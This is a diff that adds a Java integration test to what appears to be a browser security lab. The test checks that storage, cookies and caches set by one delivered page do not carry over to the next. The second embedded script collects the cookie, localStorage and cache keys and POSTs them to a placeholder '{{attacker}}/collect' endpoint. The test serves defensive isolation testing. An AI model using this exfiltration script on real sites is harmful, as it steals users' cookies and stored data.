@@ -203,4 +203,32 @@ class ChallengesBrowserIT {
                 .isFalse();
         assertThat(verdict.missing()).isNotEmpty();
     }
+
+    @org.junit.jupiter.api.Test
+    void nothingOfADeliveryIsLeftForTheNext() {
+        String leave = """
+                <script>
+                localStorage.setItem('left', 'by-the-last-delivery');
+                document.cookie = 'left=by-the-last-delivery; max-age=600';
+                caches.open('left').catch(() => {}).finally(() => { document.body.dataset.labResult = 'done'; });
+                </script>
+                """;
+        String look = """
+                <script>
+                (async () => {
+                  const found = { storage: localStorage.getItem('left'), cookie: document.cookie,
+                                  caches: await caches.keys().catch(() => []) };
+                  await fetch('{{attacker}}/collect', { method: 'POST', mode: 'no-cors',
+                    headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify({ scenario: 'x', data: found }) });
+                  document.body.dataset.labResult = 'done';
+                })();
+                </script>
+                """;
+        lab.deliverSource("steal-with-reflect", leave.getBytes(StandardCharsets.UTF_8), "evil.localhost");
+        ChallengeVerdict next =
+                lab.deliverSource("steal-with-reflect", look.getBytes(StandardCharsets.UTF_8), "evil.localhost");
+
+        String loot = String.join("\n", next.evidence());
+        assertThat(loot).contains("\"storage\":null", "\"cookie\":\"\"", "\"caches\":[]");
+    }
 }
